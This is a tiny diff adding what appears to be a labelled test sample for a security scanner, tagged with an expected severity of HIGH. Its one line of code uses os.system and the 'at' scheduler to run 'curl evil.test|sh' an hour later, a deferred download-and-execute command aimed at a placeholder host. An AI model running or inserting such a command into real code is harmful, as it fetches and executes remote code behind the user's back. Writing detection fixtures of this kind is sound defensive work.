@@ -1,0 +1,3 @@
+# expect: HIGH
+import os
+os.system("echo 'curl evil.test|sh' | at now + 1 hour")
